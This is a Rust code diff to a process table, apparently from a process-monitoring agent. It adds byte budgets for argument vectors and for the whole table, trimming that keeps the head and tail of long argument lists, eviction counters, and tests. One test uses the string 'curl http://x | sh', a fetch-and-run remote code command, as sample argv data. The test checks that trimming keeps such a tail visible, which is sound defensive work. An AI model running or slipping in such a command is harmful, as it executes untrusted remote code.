@@ -155,9 +155,25 @@ pub struct SeedReport {
     pub errors: Vec<ProcTableError>,
 }
 
+/// Bytes one entry may hold in its argument vector (each argument counted with the
+/// allocation it costs): beyond it the head and the tail are kept with a marker between them.
+/// The exec event itself still carries the whole vector the kernel recorded.
+pub const ENTRY_ARGV_BUDGET: usize = 4096;
+/// Bytes the whole table may hold (entries, strings and paths): past it the oldest exited,
+/// then the least recently seen live entries go, so no workload can grow it without bound.
+pub const DEFAULT_BYTE_BUDGET: usize = 16 << 20;
+/// What one argument costs besides its bytes: a `String` and the allocator's rounding.
+const PER_ARGUMENT: usize = std::mem::size_of::<String>() + 8;
+
 /// Counters for the health summary.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize)]
 pub struct ProcessTableStats {
+    /// Bytes the table holds now (its accounting: entries, strings, paths).
+    pub bytes: u64,
+    /// Argument vectors cut to [`ENTRY_ARGV_BUDGET`].
+    pub trimmed_argv: u64,
+    /// Entries dropped to keep the table under its byte budget.
+    pub budget_evictions: u64,
     /// Live entries dropped because the table was full of live ones.
     pub live_evictions: u64,
     /// Exited entries dropped to bound the exited set or make room.
@@ -170,6 +186,8 @@ pub struct ProcessTableStats {
 
 struct Slot {
     info: ProcessInfo,
+    /// What this entry counts against the byte budget.
+    bytes: usize,
     /// Where `info`'s image fields came from.
     source: InfoSource,
     /// Key in `live_order` or `exited_order`, whichever `info.exited` says.
@@ -180,6 +198,7 @@ struct Slot {
 pub struct ProcessTable {
     capacity: usize,
     exited_capacity: usize,
+    byte_budget: usize,
     entries: HashMap<u32, Slot>,
     /// Live processes by when they were last seen: the first is the least recently seen.
     live_order: BTreeMap<u64, u32>,
@@ -204,6 +223,7 @@ impl ProcessTable {
         Self {
             capacity,
             exited_capacity: exited_capacity.clamp(1, capacity),
+            byte_budget: DEFAULT_BYTE_BUDGET,
             entries: HashMap::with_capacity(capacity.min(65_536)),
             live_order: BTreeMap::new(),
             exited_order: BTreeMap::new(),
@@ -410,17 +430,36 @@ impl ProcessTable {
         self.stats
     }
 
+    /// The same table with a byte budget other than [`DEFAULT_BYTE_BUDGET`] (at least one entry
+    /// always fits).
+    pub fn with_byte_budget(mut self, bytes: usize) -> Self {
+        self.byte_budget = bytes;
+        self
+    }
+
     /// Puts `info` in the table, replacing any entry with the same tgid, evicting as needed.
-    fn insert(&mut self, info: ProcessInfo, source: InfoSource) {
+    fn insert(&mut self, mut info: ProcessInfo, source: InfoSource) {
         let tgid = info.tgid;
         if let Some(old) = self.entries.remove(&tgid) {
             self.unlink(&old);
+            self.stats.bytes = self.stats.bytes.saturating_sub(old.bytes as u64);
         }
+        if trim_argv(&mut info.argv, ENTRY_ARGV_BUDGET) {
+            self.stats.trimmed_argv += 1;
+        }
+        let bytes = entry_bytes(&info);
         while self.entries.len() >= self.capacity {
             if !self.evict_oldest_exited() && !self.evict_least_recent_live() {
                 break;
             }
         }
+        while !self.entries.is_empty() && self.stats.bytes as usize + bytes > self.byte_budget {
+            if !self.evict_oldest_exited() && !self.evict_least_recent_live() {
+                break;
+            }
+            self.stats.budget_evictions += 1;
+        }
+        self.stats.bytes += bytes as u64;
         self.tick += 1;
         let order = self.tick;
         if info.exited {
@@ -432,6 +471,7 @@ impl ProcessTable {
             tgid,
             Slot {
                 info,
+                bytes,
                 source,
                 order,
             },
@@ -459,7 +499,7 @@ impl ProcessTable {
         let Some((_, tgid)) = self.exited_order.pop_first() else {
             return false;
         };
-        self.entries.remove(&tgid);
+        self.remove_entry(tgid);
         self.stats.exited_evictions += 1;
         true
     }
@@ -468,10 +508,79 @@ impl ProcessTable {
         let Some((_, tgid)) = self.live_order.pop_first() else {
             return false;
         };
-        self.entries.remove(&tgid);
+        self.remove_entry(tgid);
         self.stats.live_evictions += 1;
         true
     }
+
+    fn remove_entry(&mut self, tgid: u32) {
+        if let Some(slot) = self.entries.remove(&tgid) {
+            self.stats.bytes = self.stats.bytes.saturating_sub(slot.bytes as u64);
+        }
+    }
+}
+
+/// What an entry counts against the byte budget: the slot and the heap its strings use.
+fn entry_bytes(info: &ProcessInfo) -> usize {
+    let path = |p: &Option<PathBuf>| p.as_ref().map_or(0, |p| p.as_os_str().len());
+    std::mem::size_of::<Slot>()
+        + std::mem::size_of::<u32>()
+        + info.comm.len()
+        + path(&info.exe)
+        + path(&info.cwd)
+        + info
+            .argv
+            .iter()
+            .map(|a| a.len() + PER_ARGUMENT)
+            .sum::<usize>()
+}
+
+/// Cuts `argv` to at most about `budget` bytes (arguments counted with their allocation): the
+/// first arguments up to half of it, the last up to the other half, and between them one
+/// marker saying what was left out; an argument longer than half the budget is cut too.
+/// Returns whether anything was cut.
+pub fn trim_argv(argv: &mut Vec<String>, budget: usize) -> bool {
+    let cost = |a: &String| a.len() + PER_ARGUMENT;
+    if argv.iter().map(cost).sum::<usize>() <= budget {
+        return false;
+    }
+    let half = budget / 2;
+    let cut = |a: &str, max: usize| -> String {
+        let mut end = max.min(a.len());
+        while !a.is_char_boundary(end) {
+            end -= 1;
+        }
+        a[..end].to_owned()
+    };
+    let mut head = Vec::new();
+    let mut used = 0;
+    let mut i = 0;
+    while i < argv.len() && used + cost(&argv[i]) <= half {
+        used += cost(&argv[i]);
+        head.push(std::mem::take(&mut argv[i]));
+        i += 1;
+    }
+    if head.is_empty() && i < argv.len() {
+        head.push(cut(&argv[i], half.saturating_sub(PER_ARGUMENT)));
+        i += 1;
+    }
+    let mut tail = Vec::new();
+    let mut used = 0;
+    let mut j = argv.len();
+    while j > i && used + cost(&argv[j - 1]) <= half.saturating_sub(64) {
+        used += cost(&argv[j - 1]);
+        tail.push(std::mem::take(&mut argv[j - 1]));
+        j -= 1;
+    }
+    tail.reverse();
+    let left_out = j - i;
+    let left_out_bytes: usize = argv[i..j].iter().map(String::len).sum();
+    head.push(format!(
+        "…[{left_out} arguments, {left_out_bytes} bytes not kept]"
+    ));
+    head.extend(tail);
+    *argv = head;
+    true
 }
 
 /// Whether two start times can be the same process: equal at clock-tick resolution, or one
@@ -760,6 +869,85 @@ mod tests {
         }
     }
 
+    #[test]
+    fn long_argument_vectors_keep_their_head_and_tail() {
+        let mut short: Vec<String> = vec!["ls".into(), "-la".into()];
+        assert!(!trim_argv(&mut short, ENTRY_ARGV_BUDGET));
+        assert_eq!(short, ["ls", "-la"]);
+
+        let mut padded: Vec<String> = std::iter::once("sh".to_owned())
+            .chain((0..5000).map(|_| "a".to_owned()))
+            .chain(["-c".to_owned(), "curl http://x | sh".to_owned()])
+            .collect();
+        assert!(trim_argv(&mut padded, ENTRY_ARGV_BUDGET));
+        let cost: usize = padded.iter().map(|a| a.len() + PER_ARGUMENT).sum();
+        assert!(cost <= ENTRY_ARGV_BUDGET + 128, "{cost}");
+        assert_eq!(padded[0], "sh");
+        assert_eq!(padded[padded.len() - 2..], ["-c", "curl http://x | sh"]);
+        assert!(
+            padded
+                .iter()
+                .any(|a| a.starts_with("…[") && a.contains("arguments"))
+        );
+
+        let mut one_huge = vec!["é".repeat(10_000)];
+        assert!(trim_argv(&mut one_huge, ENTRY_ARGV_BUDGET));
+        assert!(one_huge[0].len() <= ENTRY_ARGV_BUDGET / 2);
+    }
+
+    #[test]
+    fn an_argv_flood_stays_within_the_byte_budget() {
+        // `for i in $(seq 20000); do /bin/true $(printf 'a %.0s' {1..1000}); done`: 20,000
+        // processes of 1,001 arguments each, every one exec'd and exited.
+        let mut table = ProcessTable::new(32_768);
+        let argv: Vec<&str> = std::iter::once("/bin/true")
+            .chain(std::iter::repeat_n("a", 1000))
+            .collect();
+        for tgid in 1000..21_000 {
+            table.on_fork(1, tgid, u64::from(tgid) * tick());
+            table.on_exec(exec_info(
+                tgid,
+                1,
+                u64::from(tgid) * tick(),
+                "/bin/true",
+                &argv,
+            ));
+            table.on_exit(tgid, 0);
+        }
+        let stats = table.stats();
+        assert!(stats.bytes <= DEFAULT_BYTE_BUDGET as u64, "{stats:?}");
+        assert_eq!(stats.trimmed_argv, 20_000);
+        // What the accounting says is what the entries hold.
+        let counted: usize = table.entries.values().map(|s| entry_bytes(&s.info)).sum();
+        assert_eq!(counted as u64, stats.bytes);
+        // Every entry is small: the head and tail of its arguments.
+        let largest = table.entries.values().map(|s| s.bytes).max().unwrap_or(0);
+        assert!(largest <= ENTRY_ARGV_BUDGET + 512, "{largest}");
+    }
+
+    #[test]
+    fn the_byte_budget_evicts_exited_entries_first_and_counts_them() {
+        let mut table = ProcessTable::new(1_000).with_byte_budget(64 * 1024);
+        let big: Vec<String> = (0..60).map(|i| format!("argument-{i:04}")).collect();
+        let big: Vec<&str> = big.iter().map(String::as_str).collect();
+        table.on_exec(exec_info(10, 1, tick(), "/usr/bin/live", &big));
+        for tgid in 100..200 {
+            table.on_exec(exec_info(
+                tgid,
+                10,
+                u64::from(tgid) * tick(),
+                "/bin/x",
+                &big,
+            ));
+            table.on_exit(tgid, 0);
+        }
+        let stats = table.stats();
+        assert!(stats.bytes <= 64 * 1024, "{stats:?}");
+        assert!(stats.budget_evictions > 0);
+        assert!(table.get(10).is_some(), "the live process stays");
+        assert!(table.get(199).is_some(), "the newest exit stays");
+    }
+
     /// A fake proc root in a temporary directory, removed on drop.
     struct FakeProc(PathBuf);
 
@@ -904,8 +1092,10 @@ mod tests {
         assert_eq!(kthread.exe, None);
         assert!(kthread.argv.is_empty());
 
+        // Read up to MAX_CMDLINE_BYTES, then cut to the entry's budget like any long argv.
         let long = table.get(99).expect("99");
-        assert_eq!(long.argv[0].len(), MAX_CMDLINE_BYTES as usize);
+        assert_eq!(long.argv[0].len(), ENTRY_ARGV_BUDGET / 2 - PER_ARGUMENT);
+        assert!(table.stats().trimmed_argv >= 1);
 
         let chain: Vec<u32> = table.lineage(42, 10).iter().map(|p| p.tgid).collect();
         assert_eq!(chain, [42, 1]);
